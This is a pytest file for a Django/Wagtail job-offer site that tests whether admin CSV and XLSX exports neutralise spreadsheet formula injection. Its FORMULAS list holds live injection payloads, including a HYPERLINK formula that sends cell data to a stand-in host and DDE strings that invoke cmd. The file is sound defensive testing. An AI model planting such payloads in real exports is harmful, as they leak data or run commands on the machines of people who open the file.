"""Every spreadsheet the admin exports opens as text: a cell that a spreadsheet would read as a formula
(=, +, -, @, tab, carriage return first) gets an apostrophe in front in CSV files, and is a string cell
in XLSX files. Read back from the real exports of the offer listing and of Wagtail's site history."""

import csv
import io
from types import SimpleNamespace

import openpyxl
import pytest
from django.urls import reverse
from wagtail.admin.views import mixins

from metnum_site import spreadsheets
from tests.factories import InstitutionFactory, JobOfferFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://malveillant.example/?vol="&A1;"Cliquez")',
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Développeuse Python", "1 000 € = trop peu ?", "Chef·fe de projet – data"]


@pytest.fixture
def offers():
    institution = InstitutionFactory(name="=Ministère des essais", acronym="@ESSAIS")
    return [
        JobOfferFactory(title=title, reference=title[:60], institution=institution, published=True)
        for title in FORMULAS + HARMLESS
    ]


def csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_offer_csv_export_prefixes_formulas_and_leaves_other_cells_alone(admin_client, offers):
    response = admin_client.get(reverse("wagtailsnippets_jobs_joboffer:list"), {"export": "csv"})

    rows = {row["Identifiant"]: row for row in csv_rows(response)}
    for offer in offers:
        row = rows[str(offer.pk)]
        expected = "'" + offer.title if offer.title in FORMULAS else offer.title
        assert row["Intitulé"] == expected
        assert row["Référence"] == ("'" + offer.reference if offer.title in FORMULAS else offer.reference)
        assert (row["Employeur"], row["Sigle"]) == ("'=Ministère des essais", "'@ESSAIS")
        assert row["Salaire minimum (€ brut annuel)"] in {"", str(offer.salary_min)}


def test_the_site_history_csv_export_prefixes_formulas(admin_client, offers):
    response = admin_client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})

    assert response.status_code == 200
    cells = [cell for row in csv_rows(response) for cell in row.values()]
    for title in FORMULAS:
        assert "'" + title in cells
        assert title not in cells
    assert "Développeuse Python" in cells


def test_the_offer_xlsx_export_holds_formulas_as_text(admin_client, offers):
    response = admin_client.get(reverse("wagtailsnippets_jobs_joboffer:list"), {"export": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    titles = [row[header.index("Intitulé")] for row in sheet.iter_rows(min_row=2)]
    assert {cell.value for cell in titles} == set(FORMULAS + HARMLESS)
    assert {cell.data_type for cell in titles} == {"s"}  # strings, never "f" (formula)


def test_as_text():
    assert [spreadsheets.as_text(value) for value in FORMULAS] == ["'" + value for value in FORMULAS]
    assert [spreadsheets.as_text(value) for value in HARMLESS] == HARMLESS
    assert spreadsheets.as_text(-3) == -3  # numbers stay numbers
    assert spreadsheets.as_text(None) is None


class Export(mixins.SpreadsheetExportMixin):
    list_export = ["title", "count"]
    export_headings = {"title": "Intitulé", "count": "Nombre"}


def test_our_csv_writer_replaces_wagtails_and_writes_the_same_file_when_no_cell_is_a_formula():
    """Pins the private Wagtail API that metnum_site.spreadsheets relies on."""
    assert mixins.SpreadsheetExportMixin.stream_csv is spreadsheets.stream_csv
    rows = [SimpleNamespace(title=title, count=index) for index, title in enumerate(HARMLESS)]

    ours = b"".join(spreadsheets.stream_csv(Export(), rows))
    wagtails = b"".join(spreadsheets.WAGTAIL_STREAM_CSV(Export(), rows))

    assert ours == wagtails
    assert ours.decode().splitlines()[0] == "Intitulé,Nombre"
